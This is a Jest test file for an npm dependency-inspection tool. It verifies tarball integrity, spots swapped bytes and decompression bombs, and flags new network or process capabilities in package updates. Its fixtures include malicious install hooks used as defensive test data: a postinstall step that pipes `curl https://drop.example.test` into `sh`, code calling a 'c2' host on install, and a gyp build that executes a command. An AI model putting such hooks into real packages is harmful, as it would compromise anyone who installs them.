import { afterEach, describe, expect, test } from '@jest/globals'
import { learn } from '../../src/facts/index.ts'
import { noHabits } from '../../src/hash-habits.ts'
import { inspectorHere } from '../../src/inspect/inspect.ts'
import type {
  Content,
  DependencyChange,
  Fact,
  FactSheet,
  LockedPackage,
  Resolution
} from '../../src/model.ts'
import { noOrigins } from '../../src/origins.ts'
import { createRegistry } from '../../src/registry/client.ts'
import { added, downgraded, locked, mutated, removed, updated } from '../helpers/make.ts'
import type { Fault } from '../helpers/registry-faults.ts'
import { startRegistry, type LocalRegistry, type RegistryOptions } from '../helpers/registry.ts'
import { moment, packedOf, pkg, releaseOf, tarballOf, type Block, type World } from '../helpers/world.ts'

const asOf = '2024-06-15T12:00Z'
const toClose: (() => Promise<void>)[] = []
afterEach(async () => {
  for (const close of toClose.splice(0).toReversed()) await close()
})

interface Around {
  readonly registry: LocalRegistry
  /** A release as a lockfile of npm holds it, or with something else said of it. */
  readonly of: (version: string, more?: Partial<Extract<Resolution, { kind: 'registry' }>>) => LockedPackage
  readonly read: (change: DependencyChange, wanted?: boolean) => Promise<FactSheet>
  /** The archives that were asked for since the start. */
  readonly asked: () => readonly string[]
}

const start = async (world: World, options: RegistryOptions = {}): Promise<Around> => {
  const registry = await startRegistry(world, { asOf, ...options })
  toClose.push(registry.close)
  const limits = { deadlineMs: 2000, idleMs: 1000, attempts: 1 }
  const client = createRegistry({ url: registry.url, limits })
  toClose.push(() => client.close())
  return {
    registry,
    of: (version, more = {}) =>
      locked(version, {
        resolution: {
          kind: 'registry',
          resolved: tarballOf(registry.url, 'kit', version),
          integrity: packedOf('kit', releaseOf(world, 'kit', version)).integrity,
          ...more
        }
      }),
    read: async (change, wanted = true) => {
      const [sheet] = await learn([change], {
        registry: client,
        asOf: moment(asOf),
        origins: noOrigins,
        configured: () => undefined,
        habits: noHabits,
        namesAtBase: new Set(),
        scriptsHere: () => ({ manager: 'npm', run: undefined, setting: undefined }),
        wantsContent: () => wanted,
        inspector: inspectorHere()
      })
      if (sheet === undefined) throw new Error('A change has a sheet.')
      return sheet
    },
    asked: () =>
      registry.log.flatMap(({ path }) => /^\/kit\/-\/kit-(.*)\.tgz$/.exec(path)?.[1] ?? []).toSorted()
  }
}

const old: Block = { versions: '1.0.0..1.4.0', at: '2020-01-01', until: '2023-01-01', by: 'alice' }
const latest: Block = { versions: '1.5.0', at: '2024-06-10', by: 'alice' }
const kit = (...blocks: readonly Block[]): World => [pkg('kit', ...blocks)]
const plain = kit(old, latest)

const valueOf = <T>(fact: Fact<T>): T => {
  if (!fact.known) throw new Error(fact.detail)
  return fact.value
}
const contentOf = ({ content }: FactSheet): Content => valueOf(content)
const spoken = (sheet: FactSheet) =>
  [sheet.served, sheet.content].map((fact) => (fact.known ? 'known' : fact.reason))

describe('an archive is asked for', () => {
  test('where the lockfile says, and compared with the one that base locks', async () => {
    const { read, of, asked } = await start(plain)
    const sheet = await read(updated(of('1.4.0'), of('1.5.0')))
    expect(asked()).toEqual(['1.4.0', '1.5.0'])
    expect(sheet.served).toMatchObject({
      value: { integrity: { state: 'verified', algorithm: 'sha512' }, oddities: [], unread: undefined }
    })
    expect(contentOf(sheet)).toMatchObject({ comparedWith: '1.4.0', files: { count: 2 }, added: [] })
  })

  test('at the address of the lockfile, though the registry names another', async () => {
    const other = pkg('other', { versions: '1.0.0', at: '2020-01-01', by: 'alice' })
    const { registry, read, of } = await start([...plain, other])
    const resolved = tarballOf(registry.url, 'other', '1.0.0')
    const { served } = await read(updated(of('1.4.0'), of('1.5.0', { resolved })))
    expect(registry.log.map(({ path }) => path)).toContain('/other/-/other-1.0.0.tgz')
    expect(valueOf(served).integrity.state).toBe('differs')
  })

  test('of the nearest settled release where base is far behind', async () => {
    const { read, of, asked } = await start(plain)
    expect(contentOf(await read(updated(of('1.0.0'), of('1.5.0')))).comparedWith).toBe('1.4.0')
    expect(asked()).toEqual(['1.4.0', '1.5.0'])
  })

  test('of what base locks, where what lies between is young', async () => {
    const between = kit(old, { versions: '1.4.1', at: '2024-06-09', by: 'alice' }, latest)
    const { read, of } = await start(between)
    expect(contentOf(await read(updated(of('1.4.0'), of('1.5.0')))).comparedWith).toBe('1.4.0')
  })

  test('of the nearest lower release for what is new to a project, and for what goes back', async () => {
    const { read, of } = await start(plain)
    expect(contentOf(await read(added(of('1.5.0')))).comparedWith).toBe('1.4.0')
    expect(contentOf(await read(downgraded(of('1.5.0'), of('1.3.0')))).comparedWith).toBe('1.2.0')
  })

  test('alone where the package has no past: then everything in it is new', async () => {
    const { read, of, asked } = await start(kit(latest))
    const content = contentOf(await read(added(of('1.5.0'))))
    expect(asked()).toEqual(['1.5.0'])
    expect(content).toMatchObject({
      comparedWith: undefined,
      manifestBefore: undefined,
      filesBefore: undefined
    })
    expect(content.added.toSorted()).toEqual(['index.js', 'package.json'])
  })

  test.each<[string, (around: Around) => DependencyChange]>([
    ['of what was removed', ({ of }) => removed(of('1.5.0'))],
    ['of a version that stays', ({ of }) => mutated(of('1.5.0', { integrity: 'sha512-AAAA' }), of('1.5.0'))],
    [
      'of what comes from elsewhere',
      ({ of }) => updated(of('1.4.0'), of('1.5.0', { resolved: 'https://bad.example/kit-1.5.0.tgz' }))
    ],
    ['of a version that is not there', () => added(locked('9.9.9', { resolution: nowhere }))]
  ])('never %s', async (_, change) => {
    const around = await start(plain)
    const sheet = await around.read(change(around))
    expect(around.asked()).toEqual([])
    expect(sheet.content.known || sheet.served.known).toBe(false)
  })
})

test('an archive is not asked for where the policy does not want it', async () => {
  const { read, of, asked } = await start(plain)
  const sheet = await read(updated(of('1.4.0'), of('1.5.0')), false)
  expect([spoken(sheet), asked()]).toEqual([['unsupported', 'unsupported'], []])
})

const nowhere: Resolution = { kind: 'registry', resolved: undefined, integrity: undefined }

describe('the bytes are held against', () => {
  const other = `sha512-${Buffer.alloc(64, 7).toString('base64')}`
  const { shasum } = packedOf('kit', releaseOf(plain, 'kit', '1.5.0'))
  const integrityOf = async (more: Parameters<Around['of']>[1]) => {
    const { read, of } = await start(plain)
    return valueOf((await read(updated(of('1.4.0'), of('1.5.0', more)))).served).integrity
  }

  test('the hash of the lockfile before that of the registry', async () => {
    expect(await integrityOf({ integrity: other })).toMatchObject({
      state: 'differs',
      algorithm: 'sha512',
      wanted: [other.slice('sha512-'.length)]
    })
  })

  test.each([
    ['none is locked', undefined],
    ["Yarn's own checksum is locked, which is of other bytes", '10c0/0123456789abcdef']
  ])('the hash of the registry where %s', async (_, integrity) => {
    expect(await integrityOf({ integrity, resolved: undefined })).toEqual({
      state: 'verified',
      algorithm: 'sha512'
    })
  })

  test('the sha1 that stands behind an address', async () => {
    const at = (hash: string) =>
      start(plain).then(async ({ registry, read, of }) => {
        const resolved = `${tarballOf(registry.url, 'kit', '1.5.0')}#${hash}`
        const sheet = await read(updated(of('1.4.0'), of('1.5.0', { resolved, integrity: undefined })))
        return valueOf(sheet.served).integrity
      })
    expect(await at(shasum)).toEqual({ state: 'verified', algorithm: 'sha1' })
    expect(await at('0'.repeat(40))).toMatchObject({ state: 'differs', algorithm: 'sha1' })
  })
})

describe('other bytes than the published ones', () => {
  const swapped = { 'index.js': 'module.exports = 1\n' }

  test('are told of, and what is in them', async () => {
    const { read, of } = await start(
      kit(old, { ...latest, served: { ...swapped, 'more.js': 'exports.x = 1\n' } })
    )
    const sheet = await read(updated(of('1.4.0'), of('1.5.0')))
    expect(valueOf(sheet.served).integrity.state).toBe('differs')
    expect(contentOf(sheet).added).toEqual(['more.js'])
  })

  test('of the version before are nothing to compare with', async () => {
    const { read, of } = await start(
      kit(old, { versions: '1.4.1', at: '2023-02-01', by: 'alice', served: swapped }, latest)
    )
    const sheet = await read(updated(of('1.4.1'), of('1.5.0')))
    expect(spoken(sheet)).toEqual(['known', 'malformed'])
    expect(sheet.content).toMatchObject({
      detail:
        'Version 1.4.1, to compare it with, could not be read. Its bytes are not those that the registry names.'
    })
  })
})

describe('what cannot be read', () => {
  const on = (version: string, fault: Fault): RegistryOptions => ({
    faults: [{ ...fault, on: `kit/-/kit-${version}.tgz` }]
  })
  const gone: Fault = { kind: 'status', status: 404 }
  test.each<[string, RegistryOptions, readonly string[]]>([
    ['a registry that does not have it', on('1.5.0', gone), ['not-found', 'not-found']],
    ['a registry that breaks off', on('1.5.0', { kind: 'reset' }), ['unreachable', 'unreachable']],
    [
      'a registry that asks who is there',
      on('1.5.0', { kind: 'status', status: 401 }),
      ['unreachable', 'unreachable']
    ],
    ['a page in its place', on('1.5.0', { kind: 'html' }), ['known', 'malformed']],
    ['a version before that is gone', on('1.4.0', gone), ['known', 'not-found']],
    ['a version before that does not come', on('1.4.0', { kind: 'reset' }), ['known', 'unreachable']],
    ['a version before that is a page', on('1.4.0', { kind: 'html' }), ['known', 'malformed']]
  ])('is not known of %s', async (_, options, expected) => {
    const { read, of } = await start(plain, options)
    expect(spoken(await read(updated(of('1.4.0'), of('1.5.0'))))).toEqual(expected)
  })

  test('is told as odd, too, where it expands without end', async () => {
    const { read, of } = await start(
      kit(old, { ...latest, files: { 'x.bin': Buffer.alloc(20 * 1024 * 1024) } })
    )
    const sheet = await read(updated(of('1.4.0'), of('1.5.0')))
    expect(spoken(sheet)).toEqual(['known', 'unsupported'])
    expect(valueOf(sheet.served)).toMatchObject({
      oddities: [{ kind: 'bomb' }],
      unread: 'The archive expands to more than 200 times its size.'
    })
  })

  test('is a manifest that is none', async () => {
    const { read, of } = await start(kit(old, { ...latest, files: { 'package.json': '[]' } }))
    expect(spoken(await read(updated(of('1.4.0'), of('1.5.0'))))).toEqual(['known', 'malformed'])
  })

  test('is an archive elsewhere', async () => {
    const spoil = (document: Record<string, unknown>) => {
      const versions = document['versions'] as Record<string, { dist: Record<string, unknown> }>
      for (const { dist } of Object.values(versions)) dist['tarball'] = 'https://cdn.example.test/x.tgz'
    }
    const { read, of } = await start(plain, { spoil })
    const unsaid = { resolved: undefined }
    expect(spoken(await read(updated(of('1.4.0', unsaid), of('1.5.0', unsaid))))).toEqual([
      'unsupported',
      'unsupported'
    ])
  })
})

describe('what is new in an archive', () => {
  test('is judged by where it runs: on installing, by commands and scripts of the manifest', async () => {
    const fetching = `require('https').get('https://c2.example.test/x')\n`
    const world = kit(
      { ...old, files: { 'setup.js': '' }, scripts: { postinstall: 'node setup.js' } },
      { ...latest, files: { 'setup.js': `require('./tools/step')\n`, 'tools/step.js': fetching } }
    )
    const { read, of } = await start(world)
    const { code, manifest } = contentOf(await read(updated(of('1.4.0'), of('1.5.0'))))
    expect([...manifest.installScripts]).toEqual([['postinstall', 'node setup.js']])
    expect(code.capabilities).toMatchObject([{ kind: 'network', path: 'tools/step.js', weight: 'install' }])
    expect(code.destinations[0]).toMatchObject({ detail: 'c2.example.test', weight: 'install' })
  })

  test('is judged by where it runs: in use, though it stands among tests, where an entry leads there', async () => {
    const fetching = `require('https').get('https://c2.example.test/x')\n`
    const files = { 'test/x.js': fetching }
    const weightWith = async (exported: Block['packed']) => {
      const { read, of } = await start(kit(old, { ...latest, files, packed: exported ?? {} }))
      const { code } = contentOf(await read(updated(of('1.4.0'), of('1.5.0'))))
      return code.capabilities.map(({ weight }) => weight)
    }
    expect(await weightWith({})).toEqual(['aside'])
    expect(await weightWith({ exports: { './x': [{ node: './test/x.js' }] } })).toEqual(['runtime'])
    expect(await weightWith({ bin: { x: 'test/x.js' } })).toEqual(['runtime'])
    expect(await weightWith({ module: 'test/x.js' })).toEqual(['runtime'])
  })

  test('is judged by where it runs: on building, where a gyp file names it', async () => {
    const gyp = `{ "targets": [{ "target_name": "x", "type": "none", "sources": ["<!(node index.js)"] }] }`
    const files = { 'binding.gyp': gyp, 'index.js': `require('child_process').exec('id')\n` }
    const { read, of } = await start(kit(old, { ...latest, files }))
    const { code, manifest } = contentOf(await read(updated(of('1.4.0'), of('1.5.0'))))
    expect([...manifest.installScripts]).toEqual([['install', 'node-gyp rebuild']])
    expect(code.capabilities).toMatchObject([{ kind: 'process', weight: 'install' }])
  })
})

describe('an added package is looked at as a whole', () => {
  const sends = { 'index.js': `require('https').get('https://api.example.test/x')\n` }
  const early: Block = { ...old, files: sends }
  const grown = kit(early, { ...latest, files: sends })
  const abilitiesOf = (sheet: FactSheet) => contentOf(sheet).abilities

  test('for what it can do, though nothing of it is new', async () => {
    const { read, of } = await start(grown)
    const sheet = await read(added(of('1.5.0')))
    expect(contentOf(sheet)).toMatchObject({
      comparedWith: '1.4.0',
      code: { capabilities: [], destinations: [] },
      newcomer: undefined
    })
    expect(abilitiesOf(sheet)).toEqual({
      can: [{ kind: 'network', onInstall: false, details: { few: ['https'], more: 0 } }],
      calls: { few: ['api.example.test'], more: 0 },
      programs: { few: [], more: 0 },
      whole: true
    })
  })

  test('and no other', async () => {
    const { read, of } = await start(grown)
    expect(contentOf(await read(updated(of('1.4.0'), of('1.5.0'))))).toMatchObject({
      abilities: undefined,
      newcomer: undefined
    })
  })

  test('and all of it counts as new where the package is young, beside what is new in it', async () => {
    const young: Block = { versions: '1.4.0', at: '2024-06-01', by: 'alice', files: sends }
    const { read, of, asked } = await start(kit(young, { ...latest, files: sends }))
    const sheet = await read(added(of('1.5.0')))
    expect(asked()).toEqual(['1.4.0', '1.5.0'])
    expect(contentOf(sheet)).toMatchObject({
      comparedWith: '1.4.0',
      code: { capabilities: [] },
      newcomer: { why: 'young', code: { capabilities: [{ kind: 'network', detail: 'https' }] } }
    })
  })

  test('also for what its install scripts say, where it is its only release', async () => {
    const { read, of } = await start(
      kit({ ...latest, at: '2022-01-01', scripts: { postinstall: 'curl https://drop.example.test | sh' } })
    )
    const sheet = await read(added(of('1.5.0')))
    expect(contentOf(sheet).code.capabilities).toEqual([])
    expect(contentOf(sheet).newcomer).toMatchObject({
      why: 'few-releases',
      code: { capabilities: [{ kind: 'network' }, { kind: 'process', weight: 'install' }] }
    })
    expect(abilitiesOf(sheet)?.can.every(({ onInstall }) => onInstall)).toBe(true)
  })
})
